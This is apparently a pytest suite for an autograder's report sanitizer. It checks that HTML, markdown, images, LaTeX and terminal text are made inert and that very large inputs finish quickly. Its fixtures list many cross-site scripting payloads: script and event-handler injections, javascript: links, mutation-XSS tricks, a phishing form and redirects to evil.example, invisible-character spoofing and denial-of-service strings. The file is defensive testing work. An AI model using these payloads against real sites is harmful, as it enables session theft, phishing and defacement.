"""Untrusted text, markup and images, made inert."""

import base64
import re
import time
import tracemalloc
from html.parser import HTMLParser

import pytest

from autograder.reports import sanitize

PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
).decode()


class Reader(HTMLParser):
    """The elements of a page and their attributes, as a browser finds them."""

    def __init__(self, page):
        super().__init__()
        self.elements = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "unclosed script": "<script>alert(1)",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror in data image": f'<img src="data:image/png;base64,{PNG}" onerror=alert(1)>',
    "svg onload": "<svg onload=alert(1)>",
    "svg in image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "html in image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link, spelt out": '<a href="&#106;ava\tscript&colon;alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:x">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x">',
    "form": '<form action="https://evil.example"><input name=password><button>go</button></form>',
    "style": "<style>body{display:none}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    "class of the page": '<span class="badge good">Passed 100 / 100</span>',
    "id of the page": '<p id="question-1">x</p>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "remote image": '<img src="https://evil.example/pixel.png">',
    "srcset": f'<img src="data:image/png;base64,{PNG}" srcset="//evil.example/x 2x">',
    "video": '<video src="//evil.example" onloadstart=alert(1)></video>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "ends the frame": "</div></article></section></main><h1>Score 100</h1>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
}
ALLOWED_ATTRIBUTES = {
    *("href", "rel", "src", "alt", "title", "colspan", "rowspan", "scope", "start", "open", "class")
}


MATHEMATICS = {
    *("math", "mfrac", "mi", "mn", "mo", "mover", "mrow", "mspace", "msqrt", "mstyle", "msub"),
    *("msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover"),
}
MATHEMATICAL_ATTRIBUTES = {
    *("accent", "columnalign", "display", "displaystyle", "fence", "form", "mathvariant"),
    *("maxsize", "minsize", "movablelimits", "scriptlevel", "stretchy", "width", "height"),
}


def check_inert(markup):
    """No element or attribute in `markup` acts, loads, or looks like the page's own."""
    for tag, attributes in Reader(str(markup)).elements:
        if tag in MATHEMATICS:
            assert set(attributes) <= MATHEMATICAL_ATTRIBUTES, attributes
            assert all(re.fullmatch(r"[\w.%-]{1,20}", value) for value in attributes.values())
            continue
        assert tag in sanitize._TAGS, tag
        assert tag not in ("h1", "h2")
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if tag == "img":
            assert re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,", attributes["src"])
        if "href" in attributes:
            assert re.match(r"https?://|mailto:", attributes["href"])
            assert "noopener" in attributes["rel"]
        if "class" in attributes:
            assert attributes["class"] in ("math", "math display")


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_is_inert(source):
    check_inert(sanitize.html(source))
    check_inert(sanitize.html(f"<table><tr><td>{source}</td></tr></table>"))
    assert "alert(1)</script" not in sanitize.html(source)


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_is_inert(source):
    for text in (source, f"# {source}", f"a **b {source}**", f"$x {source}$", f"- {source}\n\n  x"):
        check_inert(sanitize.markdown(text))


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        '![x" onerror="alert(1)](attachment:a.png)',
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "```mermaid\nclick A callback\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "$$</code><script>alert(1)</script>$$",
        "\\begin{x}</code><img src=x onerror=alert(1)>\\end{x}",
    ],
)
def test_markdown_of_its_own_kind_is_inert(source):
    attachments = {"a.png": {"image/png": PNG}}
    check_inert(sanitize.markdown(source, attachments))
    assert "alert(1)</script>" not in sanitize.markdown(source)


def test_what_is_harmless_stays():
    table = '<table border="1" class="dataframe"><tr><th colspan="2">loss</th></tr></table>'
    assert '<th colspan="2">loss</th>' in sanitize.html(table)
    shown = sanitize.markdown(
        "# A\n\n*b* [c](https://example.org) $x_1 < y$ ~~d~~\n\n|e|\n|-|\n|f|"
    )
    for part in ("<h3>A</h3>", "<em>b</em>", 'href="https://example.org"', "<td>f</td>"):
        assert part in shown
    drawn = "<math><msub><mi>x</mi><mn>1</mn></msub><mo>&lt;</mo><mi>y</mi></math>"
    assert drawn in shown
    attached = sanitize.markdown("![plot](attachment:a.png)", {"a.png": {"image/png": PNG}})
    assert f'<img src="data:image/png;base64,{PNG}" alt="plot">' in attached


def test_a_large_attachment_is_shown_whole():
    data = base64.b64encode(base64.b64decode(PNG) + bytes(3_000_000)).decode()
    shown = sanitize.markdown("![plot](attachment:a.png) and more", {"a.png": {"image/png": data}})
    assert shown == f'<p><img src="data:image/png;base64,{data}" alt="plot"> and more</p>\n'


def test_an_attachment_may_be_referred_to_again_and_by_html():
    attachments = {name: {"image/png": PNG} for name in ("a\u200b&.png", "b.png")}
    for source in (
        '<img alt="x" src="attachment:a\u200b&amp;.png">',
        "![x](attachment:b.png)",
    ):
        shown = sanitize.markdown(f"{source} b {source}", attachments)
        assert shown.count(f'src="data:image/png;base64,{PNG}"') == 2
        assert shown.count(' alt="x"') == 2
        check_inert(shown)


def test_many_references_to_one_attachment_cost_little():
    data = base64.b64encode(base64.b64decode(PNG) + bytes(1_000_000)).decode()
    attachments = {"a": {"image/png": data}}
    tracemalloc.start()
    start = time.process_time()
    shown = sanitize.markdown("![b](attachment:a)" * 400, attachments)
    assert time.process_time() - start < 5
    assert tracemalloc.get_traced_memory()[1] < 100_000_000
    tracemalloc.stop()
    assert shown.count("<img") == sanitize.MAX_ATTACHMENT_BYTES // len(data)
    assert shown.endswith("[image: b (left out: the images here are too large)]</em></p>\n")
    assert len(sanitize.markdown("![b](attachment:a)", attachments, 1_000)) < 1_000


@pytest.mark.parametrize(
    "source",
    [
        '<img src="a.png"><img src="attachment:b"><a href="attachment:a.png">x</a>',
        '<a title=\'<img src="attachment:a.png">\' href="https://a.org">x</a>',
        '<img alt=" src=" src="attachment:a.png" title=\'" onload="\'>',
        '![a](attachment:a.png" onload="alert)',
        '`<img src="attachment:a.png">`',
    ],
)
def test_references_to_attachments_are_inert(source):
    shown = sanitize.markdown(source, {"a.png": {"image/png": PNG}, 'a"': {"image/png": PNG}})
    check_inert(shown)
    check_inert(sanitize.html(source))
    assert "<img" not in sanitize.html(source)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("access\u202e level", "access⟨U+202E⟩ level"),
        ("a\x1bb\x00c\x7f", "a␛b␀c␡"),
        ("zero\u200bwidth\ufeff", "zero⟨U+200B⟩width⟨U+FEFF⟩"),
        ("tag\U000e0041", "tag⟨U+E0041⟩"),
        ("\ud800", "\ufffd"),
        ("تجربة", "تجربة"),
        ("👩‍🔬 naïve\ttab\n", "👩‍🔬 naïve\ttab\n"),
    ],
)
def test_what_cannot_be_seen_becomes_visible(text, shown):
    assert sanitize.visible(text) == shown


def test_invisible_characters_are_found_behind_entities_and_in_code():
    assert "⟨U+202E⟩" in sanitize.html("a&#x202e;b")
    assert "⟨U+202E⟩" in sanitize.markdown("a&#x202e;b")
    assert "⟨U+202E⟩" in sanitize.code("if access == 'user\u202e':")
    assert "⟨U+202E⟩" in sanitize.terminal("a\u202eb")


def test_terminal_colours_become_classes():
    assert sanitize.terminal("\x1b[31mred\x1b[0m <b>") == (
        '<span class="ansi-red-fg">red</span> &lt;b&gt;'
    )
    for text in ("\x1b[38;2;1;2;3mx", "\x1b[38;5;200mx", "\x1b[48mx", "\x1b[38mx", "\x1b[38;5mx"):
        shown = sanitize.terminal(text)
        assert "x" in shown
        assert "style" not in shown


@pytest.mark.parametrize(
    "text",
    ["\x1b]0;title\x07x", "\x1b[2J\x1b[Hx", "\x1b[999999999999Ax", "\x1b[" + "9" * 9999 + "mx"],
)
def test_other_escape_sequences_do_nothing(text):
    shown = sanitize.terminal(text)
    assert "\x1b" not in shown
    assert shown.endswith("x")


def test_progress_bars_show_their_last_state():
    bar = "\r".join(f"{number}/32 [====]" for number in range(33))
    assert sanitize.terminal(f"Epoch 1\n{bar}\nEpoch 2") == "Epoch 1\n32/32 [====]\nEpoch 2"
    assert sanitize.terminal("1/9\b\b\b2/9\b\b\b") == "2/9"


def test_long_outputs_lose_their_middle():
    line = sanitize.terminal("a" + "x" * 5_000_000 + "z")
    assert len(line) < 21_000
    assert "4,980,002 characters left out" in line
    assert line.startswith("a")
    assert line.endswith("z")
    lines = sanitize.terminal("\n".join(map(str, range(100_000))))
    assert "99,800 lines left out" in lines
    assert lines.endswith("99999")


@pytest.mark.parametrize(
    ("function", "text"),
    [
        (sanitize.terminal, "\x1b[31mx" * 800_000),
        (sanitize.terminal, "x\r" * 2_000_000),
        (sanitize.plain, "\x1b[" * 2_000_000),
        (sanitize.phrase, "`a\n" * 2_000_000),
        (sanitize.phrase, "`" + "a" * 5_000_000),
        (sanitize.html, "<div>" * 1_000_000),
        (sanitize.html, "<a href='" * 500_000),
        (sanitize.markdown, "[" * 5_000_000),
        (sanitize.markdown, "> " * 2_000_000),
        (sanitize.markdown, "\\begin{a}" * 500_000),
        (sanitize.markdown, "**a" * 1_000_000),
        (sanitize.code, "'" * 5_000_000),
        (sanitize.code, "(" * 5_000_000),
        (sanitize.code, "a." * 2_000_000),
        (sanitize.code, "\n".join(["a." * 250] * 40)),
        (sanitize.code, "%%html\n" + "<?" * 2_000_000),
        (sanitize.code, "%%HTML\n" + "\n".join(["<?" * 240] * 40)),
        (sanitize.markdown, "\\\\[" * 1_000_000),
        (sanitize.markdown, "\\\\(" * 1_000_000),
        (sanitize.html, "<ul><li>" * 1_000_000),
        (sanitize.html, "<dl><dt>" * 1_000_000),
        (sanitize.html, "<b></p>" * 1_000_000),
        (sanitize.html, '<ul a="</ul>">' * 1_000_000),
        (sanitize.html, "<ul></ul</ul>" * 1_000_000),
        (sanitize.html, "<ul><!--</ul>-->" * 1_000_000),
    ],
)
def test_five_megabytes_of_anything_take_a_moment(function, text):
    start = time.process_time()
    shown = function(text)
    assert time.process_time() - start < 2
    assert len(shown) < 2_000_000


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("image/png", "not base64 at all!"),
        ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()),
        ("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\xff" * 30).decode()),
        ("image/png", PNG * 2_000_000),
        ("image/png", ["a"]),
        ("image/png", None),
        ("image/jpeg", PNG),
        ("image/webp", PNG),
        ("image/svg+xml", "<p>no picture</p>"),
        ("image/svg+xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]><svg>&a;</svg>'),
    ],
)
def test_what_is_no_image_is_refused(kind, data):
    assert sanitize.image(kind, data) is None


def test_images_are_embedded():
    assert sanitize.image("image/png", PNG[:20] + "\n" + PNG[20:]).endswith(PNG)
    assert sanitize.image("image/svg+xml", "<svg/>").startswith("data:image/svg+xml;base64,")


def test_latex_is_drawn_or_shown_as_source():
    shown = sanitize.latex("$\\displaystyle x < </code><script>$")
    assert shown.startswith('<math display="block"><mstyle displaystyle="true"')
    check_inert(shown)
    shown = sanitize.latex("$\\unknown x < </code><script>$")
    assert shown.startswith('<code class="math display">\\unknown x &lt; &lt;/code&gt;')
